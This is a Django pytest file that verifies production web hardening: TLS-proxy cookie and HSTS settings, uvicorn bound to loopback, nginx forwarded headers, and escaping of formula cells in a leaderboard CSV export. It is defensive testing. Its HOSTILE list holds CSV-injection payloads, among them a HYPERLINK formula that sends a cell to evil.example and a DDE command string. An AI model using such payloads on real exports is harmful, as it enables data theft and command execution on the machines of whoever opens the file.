"""Web hardening for production: behind the TLS proxy the cookies are secure, HSTS is on and the scheme comes
from nginx; uvicorn listens on loopback only; `check --deploy` finds nothing to fix; a CSV export cannot
carry a formula into the spreadsheet that opens it.

The settings are read from a subprocess started with the production environment (``.env.example``), as
the systemd units start the service.
"""
import csv
import io
import json
import os
import re
import secrets
import shlex
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.test import Client, override_settings
from django.utils import timezone

from backend.experiments.models import Dataset, RunStatus
from tests.support.cast import Cast

ROOT = Path(__file__).resolve().parents[2]
INFRA = ROOT / "infra"
SECURITY_SETTINGS = ("SECURE_PROXY_SSL_HEADER", "SECURE_SSL_REDIRECT", "SESSION_COOKIE_SECURE", "CSRF_COOKIE_SECURE",
                     "SECURE_HSTS_SECONDS", "SECURE_HSTS_INCLUDE_SUBDOMAINS", "SECURE_HSTS_PRELOAD",
                     "SESSION_COOKIE_HTTPONLY", "CSRF_COOKIE_HTTPONLY")


def production_env(tmp_path, **extra) -> dict:
    """The environment of ``.env.example`` (every uncommented line), with a real secret and a writable var/."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "TRAINYARD_", "DATABASE_URL"))}
    for line in (ROOT / ".env.example").read_text().splitlines():
        if line.strip() and not line.lstrip().startswith("#") and "=" in line:
            key, value = line.split("=", 1)
            env[key.strip()] = value.strip()
    env.update(DJANGO_SECRET_KEY=secrets.token_urlsafe(50), TRAINYARD_VAR=str(tmp_path / "var"),
               TRAINYARD_STORAGE=str(tmp_path / "storage"), DJANGO_SETTINGS_MODULE="backend.project.settings", **extra)
    return env


def settings_in(env: dict) -> dict:
    code = ("import json, django; django.setup(); from django.conf import settings as s; "
            f"print(json.dumps({{k: getattr(s, k, None) for k in {SECURITY_SETTINGS!r}}}))")
    done = subprocess.run([sys.executable, "-c", code], env=env, cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def behind_tls(tmp_path_factory) -> dict:
    return settings_in(production_env(tmp_path_factory.mktemp("tls")))


def test_it_sets_secure_cookies_hsts_and_the_proxy_header_behind_tls(behind_tls):
    assert behind_tls["SECURE_PROXY_SSL_HEADER"] == ["HTTP_X_FORWARDED_PROTO", "https"]
    assert behind_tls["SESSION_COOKIE_SECURE"] is True and behind_tls["CSRF_COOKIE_SECURE"] is True
    assert behind_tls["SECURE_HSTS_SECONDS"] >= 31536000 and behind_tls["SECURE_SSL_REDIRECT"] is True
    assert behind_tls["SESSION_COOKIE_HTTPONLY"] is True


def test_it_leaves_them_off_for_make_up_on_plain_http(tmp_path):
    local = settings_in(production_env(tmp_path, TRAINYARD_BEHIND_TLS="false"))
    assert local["SECURE_PROXY_SSL_HEADER"] is None and local["SECURE_SSL_REDIRECT"] is False
    assert local["SESSION_COOKIE_SECURE"] is False and local["SECURE_HSTS_SECONDS"] == 0


def test_it_answers_over_the_proxy_with_hsts_and_secure_cookies_only(db, behind_tls):
    get_user_model().objects.create_user("ada", password="pw-ada")
    values = {k: tuple(v) if isinstance(v, list) else v for k, v in behind_tls.items()}
    with override_settings(**values):
        browser = Client()
        plain = browser.get("/login/")
        assert plain.status_code == 301 and plain["Location"] == "https://testserver/login/"
        proxied = {"HTTP_X_FORWARDED_PROTO": "https"}
        page = browser.get("/login/", **proxied)
        assert page.status_code == 200
        assert page["Strict-Transport-Security"].startswith("max-age=31536000")
        r = browser.post("/login/", {"username": "ada", "password": "pw-ada"}, **proxied)
        assert r.status_code == 302
        session = r.cookies["sessionid"]
        assert session["secure"] and session["httponly"]
        assert page.cookies["csrftoken"]["secure"]


def test_it_passes_check_deploy_with_the_production_env(tmp_path):
    done = subprocess.run([sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
                          env=production_env(tmp_path), cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "System check identified no issues" in done.stdout, done.stdout + done.stderr


# --- infra: uvicorn on loopback, the proxy's headers ----------------------------------------------------


def _uvicorn_commands() -> list[list[str]]:
    lines = [line.split(":", 1)[1] for line in (INFRA / "Procfile").read_text().splitlines()
             if line.startswith("web:")]
    for unit in (INFRA / "systemd").glob("*.service"):
        lines += [line.split("=", 1)[1] for line in unit.read_text().splitlines() if line.startswith("ExecStart=")]
    return [shlex.split(line) for line in lines if "uvicorn" in line]


def test_it_binds_uvicorn_to_loopback_and_trusts_forwarded_headers_from_it_alone():
    commands = _uvicorn_commands()
    assert len(commands) >= 2  # the Procfile's and the systemd unit's
    for cmd in commands:
        assert cmd[cmd.index("--host") + 1] == "127.0.0.1", cmd
        assert "--proxy-headers" in cmd and cmd[cmd.index("--forwarded-allow-ips") + 1] == "127.0.0.1", cmd


def test_it_passes_the_scheme_and_the_client_address_from_every_nginx_location():
    conf = (INFRA / "nginx" / "trainyard.conf").read_text()
    locations = re.findall(r"^\s*location [^{]+\{([^}]*)\}", conf, re.M)
    assert len(locations) >= 4
    for block in locations:
        assert "proxy_set_header X-Forwarded-Proto $scheme;" in block, block
        assert "proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;" in block, block
    assert re.search(r"listen 80;[^}]*return 301 https://", conf)


# --- CSV exports: no formula reaches a spreadsheet ------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-cmd", "@SUM(1+1)",
           "\tx", "\rx"]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_it_neutralises_formula_cells_in_the_leaderboard_csv(db):
    cast = Cast()
    start = timezone.now()
    for i, text in enumerate(HOSTILE):
        user = get_user_model().objects.create_user(text)
        dataset = Dataset.objects.create(team=cast.team, name=f"-cmd{i}", path="datasets/x")
        cast.make_run(status=RunStatus.SUCCEEDED, spec_name=text, created_by=user, dataset=dataset,
                      best_metrics={"accuracy_top-1": 50.0 + i}, started_at=start,
                      finished_at=start - timedelta(seconds=600))  # a negative duration: still a number
    r = cast.clients["viewer"].get("/api/leaderboard/csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            if not _is_number(cell):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert {row["spec"] for row in rows} == {"'" + text for text in HOSTILE}
    assert {row["created_by"] for row in rows} == {"'" + text for text in HOSTILE}
    assert {row["dataset"] for row in rows} == {f"'-cmd{i}" for i in range(len(HOSTILE))}
    assert sorted(float(row["top1"]) for row in rows) == [50.0 + i for i in range(len(HOSTILE))]
    assert {row["train_seconds"] for row in rows} == {"-600.0"}  # -600.0 is a number: left as it is
